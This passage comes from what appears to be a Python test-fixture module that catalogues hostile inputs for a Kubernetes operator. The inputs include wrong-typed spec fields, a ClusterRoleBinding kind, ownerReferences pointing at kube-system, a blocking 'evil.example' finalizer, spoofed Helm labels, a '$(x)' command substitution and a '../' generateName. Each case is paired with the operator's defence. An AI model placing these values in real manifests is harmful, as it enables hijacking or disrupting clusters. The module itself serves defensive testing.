        (("spec/seed", nested(5000)),),
        at_apply=AtApply.NOT_SENT,
    ),
    Hostile("a list for a mapping", "break whoever looks for keys", (("spec/workload", [["messages", 1]]),)),
    Hostile("a text for the spec", "break whoever looks for keys", (("spec", "evil"),)),
    Hostile("a mapping for a text", "break whoever looks for letters", (("spec/runToken", {"a": "b"}),)),
    Hostile("a number for a name", "break whoever looks for letters", ((f"{KAFKA}/name", 7),)),
    Hostile("another kind", "have the operator make it", (("kind", "ClusterRoleBinding"),)),
    Hostile("another group", "be taken for another resource", (("apiVersion", "rbac.authorization.k8s.io/v1"),)),
)

METADATA: Final = tuple(
    Hostile(f"metadata: {key}", tries, ((f"metadata/{key}", value),), Gate.HARMLESS, at_apply, because)
    for key, value, tries, because, at_apply in (
        (
            "ownerReferences",
            [{"apiVersion": "v1", "kind": "Namespace", "name": "kube-system", "uid": "0"}],
            "have our objects belong to another, or go with it",
            "children belong to the experiment, whoever it belongs to",
            AtApply.ACCEPTED,
        ),
        (
            "finalizers",
            ["evil.example/never"],
            "hang the operator at a deletion",
            "the operator waits for nobody: what is about to go is not looked at",
            AtApply.ACCEPTED,
        ),
        (
            "labels",
            {"dedup.dev/experiment": "theirs", "app.kubernetes.io/instance": "theirs", "dedup.dev/use": "true"},
            "have our objects found as another's",
            "labels of the experiment are copied nowhere",
            AtApply.ACCEPTED,
        ),
        (
            "annotations",
            {"meta.helm.sh/release-name": "theirs", "kubectl.kubernetes.io/default-container": "$(x)"},
            "have Helm take an object for another release's",
            "annotations of the experiment are copied nowhere",
            AtApply.ACCEPTED,
        ),
        (
            "generateName",
            "../",
            "be called by what is generated",
            "the name that was given counts",
            AtApply.REFUSED,
        ),
        (
            "namespace",
            "kube-system",
            "have objects made in another namespace",
            "the API server says in which namespace it is, and refuses another one",
            AtApply.REFUSED,
        ),
        (
            "managedFields",
            [{"manager": "dedup-operator", "operation": "Apply"}],
            "own what the operator writes",
            "the operator writes whole statuses",
            AtApply.NOT_SENT,
        ),
    )
)

SHAPES: Final = (*SMUGGLED, *FAULTS, *NUMBERS, *SIZES, *METADATA)


HOSTILE: Final[tuple[Hostile, ...]] = (*CLIENTS, *TEXTS, *STORES, *SYSTEMS, *SHAPES)
